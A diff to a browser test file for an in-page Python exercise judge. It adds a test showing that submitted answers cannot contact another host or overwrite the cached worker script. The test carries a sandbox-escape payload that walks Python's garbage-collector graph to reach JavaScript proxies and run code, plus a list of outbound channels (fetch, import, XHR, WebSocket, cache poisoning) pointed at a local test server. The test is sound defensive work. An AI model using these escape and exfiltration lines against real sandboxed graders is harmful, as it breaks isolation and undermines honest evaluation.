@@ -1,6 +1,7 @@
 """Exercises in a page: its verdicts are those of notebooks, whatever an answer does, also while offline."""
 
 import gzip
+import http.server
 import io
 import json
 import os
@@ -193,6 +194,65 @@ def test_whatever_an_answer_does_ends_in_a_sentence(judge, visit):
     assert printed.evaluate("(shown) => shown.childNodes.length") < 11_000
 
 
+REACHES = """
+import sys
+frame = sys._getframe()
+while "gc" not in frame.f_globals:
+    frame = frame.f_back
+gc = frame.f_globals["gc"]
+every = {id(each): each for each in [sys.modules, *gc.get_objects()]}
+new = list(every.values())
+while new:
+    new = [each for one in new for each in gc.get_referents(one) if id(each) not in every]
+    every.update((id(each), each) for each in new)
+for each in every.values():
+    if type(each).__name__ == "JsProxy":
+        try:
+            each.constructor(SCRIPT)()
+        except Exception:
+            pass
+raise ValueError("tried")
+"""
+WAYS_OUT = {
+    "fetch": "fetch(OTHER + 'fetch', { mode: 'no-cors' })",
+    "import": "import(OTHER + 'import')",
+    "a text as code": "setTimeout(`fetch(OTHER + 'text')`)",
+    "a request": "((to) => { to.open('GET', OTHER + 'request'); to.send(); })(new XMLHttpRequest())",
+    "a socket": "new WebSocket(OTHER.replace('http', 'ws') + 'socket')",
+    "what is kept": "caches.open('attention').then((kept) => kept.put(WORKER, new Response('worse')))",
+}
+
+
+def test_no_answer_reaches_another_host_or_what_the_browser_keeps(judge, chromium, address, serve, tmp_path):
+    """By what Python holds of JavaScript; and by JavaScript in the worker, if it were to get that far."""
+    asked = []
+
+    class Ear(http.server.SimpleHTTPRequestHandler):
+        def log_message(self, *_):
+            asked.append(self.path)
+
+    other, good = f"{serve(tmp_path, Ear)}/", answer("causal_mean_loop", "mine")
+    worker = f"{address}judge/{judge.name}/worker.js"
+    with chromium.new_context() as context:
+        page = context.new_page()
+        page.goto(f"{address}01_bag_of_words/")
+        assert "✓ passed" in check(page, "causal_mean_loop", good)
+        page.evaluate(KEPT, worker)
+        for way in WAYS_OUT.values():
+            script = way.replace("OTHER", json.dumps(other)).replace("WORKER", json.dumps(worker))
+            said = check(page, "causal_mean_loop", f"SCRIPT = {script!r}\n{REACHES}")
+            assert "ValueError: tried" in said
+            page.workers[0].evaluate(
+                "(script) => new Promise((ends) => setTimeout(async () => { "
+                f"try {{ await ({script}); }} catch {{}} ends(); }}))"
+            )
+        page.wait_for_timeout(500)  # for what was asked to arrive
+        assert asked == []
+        kept = page.evaluate("async (name) => (await caches.match(name)).text()", worker)
+        assert kept == (judge / "worker.js").read_text(encoding="utf-8")
+        assert "✓ passed" in check(page, "causal_mean_loop", good)
+
+
 CHANGES = {  # what an answer changes in the Python that judges it
     "torch.isclose": "torch.isclose = lambda *a, **k: torch.ones(2, 2, dtype=torch.bool)",
     "torch.Tensor.mean": "torch.Tensor.mean = lambda self, *a, **k: torch.zeros(2, 3)",
@@ -367,16 +427,18 @@ def test_a_file_adds_to_what_is_kept_and_takes_nothing_away(judge, visit, tmp_pa
     expect(page.locator("#solved")).to_have_text(re.compile("^1 of"))
 
 
+KEPT = """async (name) => {
+    const kept = await caches.open("attention");
+    while (!(await kept.match(name))) await new Promise((ends) => setTimeout(ends, 100));
+}"""
+
+
 def test_after_one_check_it_works_without_a_network(judge, visit):
     page, good = visit("02_tril_matmul/"), answer("shift_matrix", "mine")
     check(page, "shift_matrix", good)
-    ready = """async (name) => {
-        const kept = await caches.open("attention");
-        while (!(await kept.match(name))) await new Promise((ends) => setTimeout(ends, 100));
-    }"""
     for name in [path.name for path in judge.iterdir()]:
-        page.evaluate(ready, f"../judge/{judge.name}/{name}")
-    page.evaluate(ready, "./")
+        page.evaluate(KEPT, f"../judge/{judge.name}/{name}")
+    page.evaluate(KEPT, "./")
     page.context.set_offline(True)
     page.reload()
     with page.expect_worker():  # Python starts when a reader begins to write, once the browser has it
